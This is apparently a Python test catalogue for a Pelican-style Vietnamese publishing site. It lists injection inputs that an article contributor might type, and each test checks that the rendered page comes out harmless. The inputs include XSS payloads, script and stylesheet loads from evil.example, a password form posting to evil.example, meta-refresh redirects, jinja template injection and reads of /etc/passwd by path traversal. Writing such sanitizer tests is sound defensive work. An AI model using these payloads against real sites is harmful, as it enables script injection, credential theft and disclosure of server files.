"""What a contributor may type into an article to reach its readers or to break its page.

What holds for every page – no script, no handler, no frame, no foreign form, nothing that
swallows the foot of the page – is asked in ``test_published``; a case adds what is its own.
"""

from __future__ import annotations

from tests.catalogue.case import BODY, DATE, SECTION, Case, article, harmless, published

AFTER = "\n\nSau đó vẫn là chữ.\n"


def _body(name: str, attack: str, holds: tuple[str, ...] = (), lacks: tuple[str, ...] = ()) -> Case:
    return harmless(f"attack {name}", article(attack + AFTER), ("Sau đó vẫn là chữ", *holds), lacks)


RUN = (
    _body("script", "<script>alert(1)</script>"),
    _body("script in a sentence", "Chữ <script src=//evil.example/x.js></script> chữ."),
    _body("script of odd spelling", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    _body("script in capitals and blanks", "<SCRIPT\n>alert(1)</SCRIPT\n>"),
    _body("script never closed", "<script>alert(1)"),
    _body("handler", '<p onclick="alert(1)">Chữ</p>', ("Chữ",)),
    _body("handler of a picture", "<img src=x onerror=alert(1)>"),
    _body("handler without blanks", "<img/src=x/onerror=alert(1)>"),
    _body("handler of svg", "<svg onload=alert(1)><circle r=9></svg>"),
    _body("details that open", "<details open ontoggle=alert(1)>Chữ</details>"),
    _body("javascript link", "[bấm](javascript:alert(1))"),
    _body("javascript link in entities", "[bấm](&#106;avascript:alert(1))"),
    _body("javascript link with a tab", '<a href="java\tscript:alert(1)">bấm</a>'),
    _body("javascript link with control letters", '<a href="&#1;javascript:alert(1)">bấm</a>'),
    _body("javascript by reference", "[bấm][x]\n\n[x]: javascript:alert(1)"),
    _body("javascript by angle brackets", "<javascript:alert(1)>"),
    _body("vbscript link", "[bấm](vbscript:msgbox)"),
    _body("data link", "[bấm](data:text/html;base64,PHNjcmlwdD4=)"),
    _body("data picture", "![ảnh](data:image/svg+xml;base64,PHN2Zz4=)"),
    _body("file link", "[bấm](file:///etc/passwd)"),
    _body("style block", "<style>*{display:none}</style>"),
    _body("style attribute", '<p style="position:fixed;inset:0">Chữ</p>'),
    _body("style sheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    _body("math", "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></math>"),
    _body("svg with script", "<svg><script>alert(1)</script></svg>"),
    _body("svg with a link", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    _body("template", "<template><script>alert(1)</script></template>"),
    _body("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
)
REPLACE = (
    _body("frame", '<iframe src="https://evil.example/"></iframe>'),
    _body("frame with its own page", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    _body("object", '<object data="x.swf"></object><embed src="x.swf">'),
    _body("form", '<form action="https://evil.example/"><input name=matkhau><button>Gửi</form>'),
    _body("button elsewhere", '<button formaction="javascript:alert(1)" form=x>Gửi</button>'),
    _body("base", '<base href="https://evil.example/">'),
    _body("refresh", '<meta http-equiv="refresh" content="0;url=//evil.example">'),
    _body("video that plays", "<video autoplay src=//evil.example/x.mp4></video>"),
)
SWALLOW = (
    _body("unclosed division", "<div><div><div>"),
    _body("unclosed bold", "<b><i><u>"),
    _body("unclosed table", "<table><tr><td>"),
    _body("unclosed text area", "<textarea>"),
    _body("unclosed title", "<title>"),
    _body("unclosed plain text", "<plaintext>"),
    _body("unclosed xmp", "<xmp>"),
    _body("unclosed select", "<select><option>"),
    _body("unclosed comment", "<!-- "),
    _body("unclosed conditional comment", "<!--[if IE]>"),
    _body("unclosed attribute", '<a href="https://example.vn/'),
    _body("unclosed character data", "<![CDATA["),
    _body("unclosed instruction", "<?php "),
    _body("end of the article", "</article></main></body></html>"),
    _body("end of a comment", "--> ]]> ?>"),
    _body("end of the json script", "</script><script>alert(1)</script>"),
)
BORROW = (
    _body("jinja", "{{ 7*7 }} {% include 'x' %} {# x #}", (r"\{\{ 7\*7 \}\}",), (r"\b49\b",)),
    _body("placeholder of pelican", "[x]({static}/../../etc/passwd) {include}x", (), ("root:",)),
    _body("placeholder of markdown", "\x02klzzwxh:0000\x03 klzzwxh:0001"),
    _body("stash of markdown typed", "wzxhzdk:0 wzxhzdk:1 amp"),
    _body("attribute list handler", "Chữ.\n{: onclick=alert(1) style=color:red }"),
    _body("attribute list of a link", "[bấm](https://example.vn/){: href=javascript:alert(1) }"),
    _body("id of the page", '<p id="noi-dung">Chữ</p>\n\n## Nội dung {#content}'),
    _body("ids that clash", "## Kết quả\n\n## Kết quả\n\n<h2 id=ket-qua>Kết quả</h2>"),
    _body(
        "class of the theme",
        '<div class="site-header" role="banner">Chữ</div>',
        (),
        ("banner.*Chữ",),
    ),
    _body("name that clobbers", '<a name="body"></a><img name="getElementById" src="x">'),
    _body("abbreviation that spreads", '*[chữ]: "><script>alert(1)</script>\n'),
    _body(
        "note that breaks out",
        'Chữ[^"><img src=x onerror=alert(1)>].\n\n[^"><img src=x onerror=alert(1)>]: x',
    ),
    _body("code stays code", "`<script>alert(1)</script>`"),
    _body("block of code stays code", "```html\n<script>alert(1)</script>\n```"),
    _body("title of a link", '[bấm](https://example.vn/ "x\\" onclick=alert(1) y")'),
    _body("alt of a picture", '![" onerror="alert(1)](images/khong.png)'),
    _body("mark in a place for tags", "[[ten]] [ten]{P1} {P1} \ue000\ue001"),
)
MARK_UP = "<script>alert(1)</script><b>đậm</b> & “x” \"y\" 'z' </title>"
ELSEWHERE = (
    published("mark up in the title", f"Title: {MARK_UP}\n{DATE}{SECTION}\n{BODY}", ("&lt;b&gt;",)),
    harmless("mark up in the summary", article(headers=f"Summary: {MARK_UP}\n"), ("khai mạc",)),
    harmless("mark up in the dateline", article(headers=f"Dateline: {MARK_UP}\n"), ("khai mạc",)),
    harmless("mark up in an author", article(headers=f"Authors: {MARK_UP}\n"), ("khai mạc",)),
    harmless(
        "jinja in the title",
        "Title: {{ site.name }}\n" + DATE + SECTION + "\n" + BODY,
        (r"\{\{ site",),
    ),
    harmless("jinja in the summary", article(headers="Summary: {{ 7*7 }}\n"), (r"\{\{ 7\*7",)),
    harmless(
        "end of json in the title", f"Title: a]]></script>b\n{DATE}{SECTION}\n{BODY}", ("khai mạc",)
    ),
    harmless("javascript in the summary", article(headers="Summary: [x](javascript:alert(1))\n")),
    harmless("end of xml in the title", f"Title: a]]>&#0;b&nbsp;\n{DATE}{SECTION}\n{BODY}"),
)

CASES = RUN + REPLACE + SWALLOW + BORROW + ELSEWHERE
